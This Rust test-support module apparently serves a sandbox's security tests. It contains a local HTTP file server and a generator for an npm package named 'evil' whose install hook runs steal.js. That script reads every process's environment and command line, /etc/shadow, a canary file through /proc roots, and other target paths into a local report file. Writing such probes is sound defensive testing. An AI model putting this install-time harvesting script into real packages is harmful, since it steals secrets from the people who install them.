//! What tests of hostile inputs share: a file server for what a source names by URL, and an
//! npm package whose install script takes what it can and reports it.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::thread;

use super::{gzip, tar_of};

/// An HTTP server on 127.0.0.1 answering `GET <path>` with fixed bytes, as often as asked, on
/// a thread of its own (404 for other paths).
pub struct FileServer {
    port: u16,
}

impl FileServer {
    pub fn start(files: HashMap<String, Vec<u8>>) -> FileServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let files = Arc::new(files);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let files = files.clone();
                thread::spawn(move || serve(stream, &files));
            }
        });
        FileServer { port }
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }
}

fn serve(mut stream: TcpStream, files: &HashMap<String, Vec<u8>>) {
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
        if head.len() > 64 * 1024 {
            return;
        }
    }
    let head = String::from_utf8_lossy(&head);
    let path = head.split_whitespace().nth(1).unwrap_or("/");
    let path = path.split('?').next().unwrap_or(path);
    let _ = match files.get(path) {
        Some(body) => stream
            .write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .as_bytes(),
            )
            .and_then(|()| stream.write_all(body)),
        None => stream
            .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
    };
}

/// steal.js: an npm install script that takes what it can and writes it to `report.json`
/// beside itself (which lands in the deps layer). `__CANARY__` is replaced by the canary
/// file's path and `__TARGETS__` by further paths to try (paths; the script holds no secret).
/// The report: its uid and gid, `canary` (the file), `canaryDir`, the canary through
/// `/proc/1/root` and every process's root, every process's `environ` and `cmdline`, its own
/// environment, `/etc/shadow`, host disks, `/dev`, and `targets` (each path's content or
/// error).
const STEAL_JS: &str = r#"'use strict';
const fs = require('fs');
const path = require('path');
const CANARY = __CANARY__;
const TARGETS = __TARGETS__;
function attempt(f) {
  try {
    return { ok: true, value: f() };
  } catch (e) {
    return { ok: false, error: String(e.code || e.message) };
  }
}
const read = (p) => attempt(() => fs.readFileSync(p).toString('latin1'));
const pids = attempt(() => fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)));
const perPid = {};
for (const pid of pids.ok ? pids.value : []) {
  perPid[pid] = {
    environ: read(`/proc/${pid}/environ`),
    cmdline: read(`/proc/${pid}/cmdline`),
    canaryThroughRoot: read(`/proc/${pid}/root${CANARY}`),
  };
}
const targets = {};
for (const target of TARGETS) {
  targets[target] = read(target);
}
const report = {
  uid: process.getuid(),
  gid: process.getgid(),
  pid: process.pid,
  canary: read(CANARY),
  canaryDir: attempt(() => fs.readdirSync(path.dirname(CANARY))),
  canaryThroughPid1Root: read('/proc/1/root' + CANARY),
  pid1Environ: read('/proc/1/environ'),
  pids,
  perPid,
  targets,
  env: process.env,
  shadow: read('/etc/shadow'),
  disks: { vda: fs.existsSync('/dev/vda'), sda: fs.existsSync('/dev/sda') },
  dev: attempt(() => fs.readdirSync('/dev')),
};
fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify(report, null, 1));
"#;

/// The npm package `evil` 1.0.0 (a .tgz) whose install script is steal.js, trying `canary`
/// and `targets`.
pub fn evil_npm_package(canary: &str, targets: &[&str]) -> Vec<u8> {
    let steal = STEAL_JS
        .replace("__CANARY__", &serde_json::to_string(canary).unwrap())
        .replace("__TARGETS__", &serde_json::to_string(targets).unwrap());
    let package = r#"{"name":"evil","version":"1.0.0","scripts":{"install":"node steal.js"}}"#;
    gzip(&tar_of(&[
        ("package/package.json", package.as_bytes()),
        ("package/steal.js", steal.as_bytes()),
    ]))
}
